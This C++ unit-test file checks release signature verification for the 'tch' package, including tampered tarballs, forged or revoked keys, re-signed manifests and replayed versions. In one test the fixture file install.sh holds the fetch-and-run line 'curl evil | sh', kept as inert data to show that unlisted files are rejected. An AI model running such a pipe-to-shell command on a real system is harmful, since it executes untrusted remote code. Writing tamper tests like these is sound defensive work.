// Tamper tests for release verification: every attack is rejected with a
// clear one-line reason, and nothing crashes.
#include "packaging/signing/release.h"

#include <sodium.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <sstream>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "packaging/signing/manifest.h"
#include "packaging/signing/strings.h"

namespace tch::packaging {
namespace {

namespace fs = std::filesystem;
using ::testing::HasSubstr;

constexpr char kTestData[] = "packaging/signing/testdata/";
constexpr int64_t kEpoch = 1763769600;
const std::string kCpu = "tch-0.1.0-linux-x86_64-cpu.tar.gz";
const std::string kGpu = "tch-0.1.0-linux-x86_64-cu130-sm90.tar.gz";

std::string Read(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

void Write(const fs::path& path, std::string_view data) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out << data;
}

SecretKey TestKey() {
  return *ParseSecretKey(
      Read(std::string(kTestData) + "TEST_ONLY_unencrypted_secret.key"),
      std::nullopt);
}

PublicKey Key(const std::string& name) {
  return *ParsePublicKey(Read(std::string(kTestData) + name));
}

class ReleaseTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const char* tmp = std::getenv("TEST_TMPDIR");
    dir_ = fs::path(tmp != nullptr ? tmp : "/tmp") /
           ::testing::UnitTest::GetInstance()->current_test_info()->name();
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    Write(dir_ / kCpu, std::string(4096, 'c') + "cpu tarball");
    Write(dir_ / kGpu, std::string(8192, 'g') + "gpu tarball");
    Write(dir_ / "tch-0.1.0.provenance.json", "{\"_type\": \"statement\"}\n");
    ASSERT_TRUE(SignFile((dir_ / "tch-0.1.0.provenance.json").string(),
                         TestKey(), "0.1.0", kEpoch)
                    .ok());
    ASSERT_TRUE(
        SignReleaseDirectory(dir_.string(), TestKey(), "0.1.0", kEpoch).ok());
    options_.keys = {Key("TEST_ONLY_key.pub")};
  }

  // Verifies and returns the failure message ("" when verification passed).
  std::string Verify(const fs::path& path) {
    absl::StatusOr<VerifyReport> report =
        VerifyRelease(path.string(), options_);
    return report.ok() ? "" : std::string(report.status().message());
  }
  std::string Verify() { return Verify(dir_); }

  // Signs `manifest` as SHA256SUMS with the test key and the original
  // trusted comment: a validly signed but wrong manifest.
  void ResignManifest(const std::string& manifest) {
    Write(dir_ / "SHA256SUMS", manifest);
    TrustedComment tc{
        kEpoch, "SHA256SUMS", "tch", "0.1.0", {"cpu", "cu130-sm90"}};
    absl::StatusOr<Signature> sig =
        SignMessage(TestKey(), manifest, FormatTrustedComment(tc), "test");
    ASSERT_TRUE(sig.ok());
    Write(dir_ / "SHA256SUMS.minisig", FormatSignature(*sig));
  }

  // Rewrites line `index` (0-based) of SHA256SUMS.minisig.
  void EditSignatureLine(int index,
                         const std::function<void(std::string*)>& f) {
    std::vector<std::string> lines;
    std::stringstream in(Read(dir_ / "SHA256SUMS.minisig"));
    for (std::string line; std::getline(in, line);) lines.push_back(line);
    f(&lines[index]);
    Write(dir_ / "SHA256SUMS.minisig", Cat(Join(lines, "\n"), "\n"));
  }

  // Flips one bit of the binary behind base64 line `index`, re-encoded.
  void FlipSignatureBit(int index, size_t byte) {
    EditSignatureLine(index, [byte](std::string* line) {
      std::vector<unsigned char> raw(line->size());
      size_t n = 0;
      ASSERT_EQ(sodium_base642bin(raw.data(), raw.size(), line->data(),
                                  line->size(), nullptr, &n, nullptr,
                                  sodium_base64_VARIANT_ORIGINAL),
                0);
      raw[byte] ^= 0x01;
      std::string b64(
          sodium_base64_ENCODED_LEN(n, sodium_base64_VARIANT_ORIGINAL), '\0');
      sodium_bin2base64(b64.data(), b64.size(), raw.data(), n,
                        sodium_base64_VARIANT_ORIGINAL);
      *line = b64.substr(0, b64.find('\0'));
    });
  }

  fs::path dir_;
  VerifyOptions options_;
};

TEST_F(ReleaseTest, SignedReleaseVerifies) {
  absl::StatusOr<VerifyReport> report = VerifyRelease(dir_.string(), options_);
  ASSERT_TRUE(report.ok()) << report.status();
  EXPECT_EQ(report->version, "0.1.0");
  EXPECT_EQ(report->flavours, (std::vector<std::string>{"cpu", "cu130-sm90"}));
  EXPECT_EQ(report->timestamp, kEpoch);
  EXPECT_EQ(report->checked.size(), 3u);
  EXPECT_EQ(Verify(dir_ / kCpu), "");
  const std::string sig = Read(dir_ / "SHA256SUMS.minisig");
  EXPECT_THAT(sig, HasSubstr("trusted comment: timestamp:1763769600\tfile:"
                             "SHA256SUMS\tproduct:tch\tversion:0.1.0\t"
                             "flavours:cpu,cu130-sm90\n"));
}

TEST_F(ReleaseTest, SigningTwiceGivesIdenticalBytes) {
  const std::string first = Read(dir_ / "SHA256SUMS.minisig");
  ASSERT_TRUE(
      SignReleaseDirectory(dir_.string(), TestKey(), "0.1.0", kEpoch).ok());
  EXPECT_EQ(Read(dir_ / "SHA256SUMS.minisig"), first);
}

TEST_F(ReleaseTest, RejectsFlippedBitInTarball) {
  std::string data = Read(dir_ / kCpu);
  data[100] ^= 0x10;
  Write(dir_ / kCpu, data);
  EXPECT_THAT(Verify(), HasSubstr(kCpu + ": SHA-256 mismatch"));
  EXPECT_THAT(Verify(dir_ / kCpu), HasSubstr("SHA-256 mismatch"));
}

TEST_F(ReleaseTest, RejectsTruncatedTarball) {
  const std::string data = Read(dir_ / kGpu);
  Write(dir_ / kGpu, data.substr(0, data.size() / 2));
  EXPECT_THAT(Verify(), HasSubstr(kGpu + ": SHA-256 mismatch"));
}

TEST_F(ReleaseTest, RejectsAppendedBytes) {
  Write(dir_ / kCpu, Read(dir_ / kCpu) + "#!/bin/sh\n");
  EXPECT_THAT(Verify(dir_ / kCpu), HasSubstr("SHA-256 mismatch"));
}

TEST_F(ReleaseTest, RejectsFlippedBitInSignature) {
  FlipSignatureBit(1, 40);
  EXPECT_THAT(Verify(), HasSubstr("signature verification failed"));
}

TEST_F(ReleaseTest, RejectsFlippedBitInKeyIdOfSignature) {
  FlipSignatureBit(1, 3);
  EXPECT_THAT(Verify(), HasSubstr("not an allowed key"));
}

TEST_F(ReleaseTest, RejectsFlippedBitInGlobalSignature) {
  FlipSignatureBit(3, 10);
  EXPECT_THAT(Verify(), HasSubstr("global signature verification failed"));
}

TEST_F(ReleaseTest, RejectsEditedTrustedComment) {
  EditSignatureLine(2, [](std::string* line) {
    line->replace(line->find("version:0.1.0"), 13, "version:9.9.9");
  });
  EXPECT_THAT(Verify(), HasSubstr("global signature verification failed"));
}

TEST_F(ReleaseTest, UntrustedCommentMayChange) {
  EditSignatureLine(0, [](std::string* line) { *line += " (edited)"; });
  EXPECT_EQ(Verify(), "");
}

TEST_F(ReleaseTest, RejectsWrongPublicKey) {
  options_.keys = {Key("TEST_ONLY_other_key.pub")};
  EXPECT_THAT(Verify(), HasSubstr("not an allowed key"));
}

TEST_F(ReleaseTest, RejectsWrongPublicKeyWithForgedKeyId) {
  PublicKey forged = Key("TEST_ONLY_other_key.pub");
  forged.key_id = Key("TEST_ONLY_key.pub").key_id;
  options_.keys = {forged};
  EXPECT_THAT(Verify(), HasSubstr("signature verification failed"));
}

TEST_F(ReleaseTest, RejectsRevokedKey) {
  options_.revoked = {Key("TEST_ONLY_key.pub").key_id};
  EXPECT_THAT(Verify(), HasSubstr("revoked key 1ED487A8818DB425"));
}

TEST_F(ReleaseTest, RejectsMalformedSignatureFiles) {
  const std::string good = Read(dir_ / "SHA256SUMS.minisig");
  const size_t first_nl = good.find('\n');
  const std::vector<std::pair<std::string, std::string>> cases = {
      {good.substr(0, good.rfind('\n', good.size() - 2) + 1),
       "expected 4 lines"},                                // missing
      {good.substr(0, first_nl + 1), "expected 4 lines"},  // 1 line
      {"", "expected 4 lines"},                            // empty
      {Cat(good.substr(0, first_nl + 1), "RUQ*",
           good.substr(good.find('\n', first_nl + 1))),
       "invalid base64"},  // bad b64
      {Cat(good.substr(0, first_nl + 1),
           "RUQltI2BqIfUHg==", good.substr(good.find('\n', first_nl + 1))),
       "decodes to 10 bytes, expected 74"},  // length
      {Cat(good.substr(0, first_nl), "\r", good.substr(first_nl)),
       "carriage return"},                    // CR
      {Cat(good, "\n"), "expected 4 lines"},  // extra
  };
  for (const auto& [text, want] : cases) {
    Write(dir_ / "SHA256SUMS.minisig", text);
    EXPECT_THAT(Verify(), HasSubstr(want)) << text;
  }
}

TEST_F(ReleaseTest, RejectsUnknownAlgorithm) {
  EditSignatureLine(1, [](std::string* line) {
    // "RUQ" encodes "ED"; "WFg" decodes to "XX"... keep the rest aligned by
    // re-encoding the whole line.
    std::vector<unsigned char> raw(74);
    size_t n = 0;
    sodium_base642bin(raw.data(), raw.size(), line->data(), line->size(),
                      nullptr, &n, nullptr, sodium_base64_VARIANT_ORIGINAL);
    raw[0] = 'E';
    raw[1] = 'X';
    std::string b64(
        sodium_base64_ENCODED_LEN(74, sodium_base64_VARIANT_ORIGINAL), '\0');
    sodium_bin2base64(b64.data(), b64.size(), raw.data(), 74,
                      sodium_base64_VARIANT_ORIGINAL);
    *line = b64.substr(0, b64.find('\0'));
  });
  EXPECT_THAT(Verify(), HasSubstr("unknown signature algorithm"));
}

TEST_F(ReleaseTest, RejectsLegacySignatureWhenPrehashedRequired) {
  const std::string manifest = Read(dir_ / "SHA256SUMS");
  const SecretKey key = TestKey();
  absl::StatusOr<Signature> sig =
      ParseSignature(Read(dir_ / "SHA256SUMS.minisig"));
  ASSERT_TRUE(sig.ok());
  sig->algorithm = SignatureAlgorithm::kLegacy;
  crypto_sign_detached(sig->signature.data(), nullptr,
                       reinterpret_cast<const unsigned char*>(manifest.data()),
                       manifest.size(), key.key.data());
  std::string global(sig->signature.begin(), sig->signature.end());
  global += sig->trusted_comment;
  crypto_sign_detached(sig->global_signature.data(), nullptr,
                       reinterpret_cast<const unsigned char*>(global.data()),
                       global.size(), key.key.data());
  Write(dir_ / "SHA256SUMS.minisig", FormatSignature(*sig));
  EXPECT_THAT(Verify(), HasSubstr("legacy (non-prehashed 'Ed') signature"));
  options_.allow_legacy = true;
  EXPECT_EQ(Verify(), "");
}

TEST_F(ReleaseTest, RejectsReplayOfOlderRelease) {
  options_.min_version = "0.2.0";
  EXPECT_THAT(Verify(), HasSubstr("older than the minimum version 0.2.0"));
  options_.min_version = "0.1.0";
  EXPECT_EQ(Verify(), "");
  options_.min_version = "0.0.9";
  EXPECT_EQ(Verify(), "");
}

TEST_F(ReleaseTest, RejectsMissingManifestEntry) {
  const std::string manifest = Read(dir_ / "SHA256SUMS");
  const size_t line = manifest.find(kCpu);
  const size_t start = manifest.rfind('\n', line) + 1;
  ResignManifest(manifest.substr(0, start) +
                 manifest.substr(manifest.find('\n', line) + 1));
  EXPECT_THAT(Verify(), HasSubstr("signed flavour cpu has no tarball"));
  EXPECT_THAT(Verify(dir_ / kCpu), HasSubstr("not listed in SHA256SUMS"));
}

TEST_F(ReleaseTest, RejectsUnlistedFileInDirectory) {
  Write(dir_ / "install.sh", "curl evil | sh\n");
  EXPECT_THAT(Verify(), HasSubstr("install.sh is in the release directory "
                                  "but not in SHA256SUMS"));
}

TEST_F(ReleaseTest, RejectsDuplicatedManifestEntry) {
  const std::string manifest = Read(dir_ / "SHA256SUMS");
  const std::string first = manifest.substr(0, manifest.find('\n') + 1);
  ResignManifest(first + manifest);
  EXPECT_THAT(Verify(), HasSubstr("duplicate manifest entry"));
}

TEST_F(ReleaseTest, RejectsTarballOfAnotherVersionOrFlavour) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"tch-0.1.0-linux-x86_64-rocm.tar.gz",
       "flavour rocm is not in the signed"},
      {"tch-0.0.9-linux-x86_64-cpu.tar.gz",
       "file name says version 0.0.9 but the signed release is 0.1.0"},
      {"tch-0.1.0-cpu.tgz.tar.gz", "not a tch tarball name"},
  };
  const std::string original = Read(dir_ / "SHA256SUMS");
  std::string current = kCpu;
  for (const auto& [renamed, want] : cases) {
    fs::rename(dir_ / current, dir_ / renamed);
    current = renamed;
    std::vector<ManifestEntry> entries = *ParseManifest(original);
    for (ManifestEntry& e : entries) {
      if (e.name == kCpu) e.name = renamed;
    }
    ResignManifest(*FormatManifest(entries));
    EXPECT_THAT(Verify(), HasSubstr(want)) << renamed;
    EXPECT_THAT(Verify(dir_ / renamed), HasSubstr(want)) << renamed;
  }
}

TEST_F(ReleaseTest, RejectsMissingFileAndMissingSignature) {
  fs::remove(dir_ / kGpu);
  EXPECT_THAT(Verify(), HasSubstr("listed in SHA256SUMS but missing"));
  fs::remove(dir_ / "SHA256SUMS.minisig");
  EXPECT_THAT(Verify(), HasSubstr("cannot open"));
}

TEST_F(ReleaseTest, RejectsTamperedProvenance) {
  Write(dir_ / "tch-0.1.0.provenance.json", "{\"_type\": \"forged\"}\n");
  EXPECT_THAT(Verify(), HasSubstr("tch-0.1.0.provenance.json: SHA-256"));
}

TEST_F(ReleaseTest, RejectsProvenanceSignatureForAnotherFile) {
  // A valid signature whose trusted comment names a different file.
  Write(dir_ / "other.json", Read(dir_ / "tch-0.1.0.provenance.json"));
  ASSERT_TRUE(
      SignFile((dir_ / "other.json").string(), TestKey(), "0.1.0", kEpoch)
          .ok());
  fs::rename(dir_ / "other.json.minisig",
             dir_ / "tch-0.1.0.provenance.json.minisig");
  fs::remove(dir_ / "other.json");
  EXPECT_THAT(Verify(),
              HasSubstr("trusted comment is for tch 0.1.0 other.json"));
}

TEST(TrustedCommentTest, RoundTripsAndRejectsDuplicates) {
  TrustedComment tc{42, "SHA256SUMS", "tch", "1.2.3", {"cpu"}};
  absl::StatusOr<TrustedComment> back =
      ParseTrustedComment(FormatTrustedComment(tc));
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->version, "1.2.3");
  EXPECT_EQ(back->timestamp, 42);
  EXPECT_FALSE(ParseTrustedComment("timestamp:1\tfile:a\tfile:b").ok());
  EXPECT_FALSE(ParseTrustedComment("timestamp:x\tfile:a\tproduct:tch\t"
                                   "version:1")
                   .ok());
}

TEST(VersionTest, ComparesNumerically) {
  EXPECT_LT(CompareVersions(*ParseVersion("0.9.0"), *ParseVersion("0.10.0")),
            0);
  EXPECT_EQ(CompareVersions(*ParseVersion("1.2"), *ParseVersion("1.2.0")), 0);
  EXPECT_GT(CompareVersions(*ParseVersion("2.0.0"), *ParseVersion("1.99.99")),
            0);
  EXPECT_FALSE(ParseVersion("1.2.3-rc1").ok());
  EXPECT_FALSE(ParseVersion("").ok());
  EXPECT_FALSE(ParseVersion("1..2").ok());
}

TEST(TarballNameTest, ParsesOnlyReleaseNames) {
  std::optional<TarballId> id = ParseTarballName(kGpu);
  ASSERT_TRUE(id.has_value());
  EXPECT_EQ(id->version, "0.1.0");
  EXPECT_EQ(id->flavour, "cu130-sm90");
  EXPECT_FALSE(ParseTarballName("tch-0.1.0-linux-x86_64-.tar.gz").has_value());
  EXPECT_FALSE(ParseTarballName("tch-x-linux-x86_64-cpu.tar.gz").has_value());
  EXPECT_FALSE(ParseTarballName("evil.tar.gz").has_value());
}

TEST(RevocationListTest, ParsesKeyIdsAndComments) {
  absl::StatusOr<std::set<KeyId>> ids = ParseRevocationList(
      "# revoked\n\n1ED487A8818DB425  compromised 2026-01-01\n");
  ASSERT_TRUE(ids.ok()) << ids.status();
  EXPECT_EQ(ids->size(), 1u);
  EXPECT_FALSE(ParseRevocationList("not-a-key-id\n").ok());
}

}  // namespace
}  // namespace tch::packaging
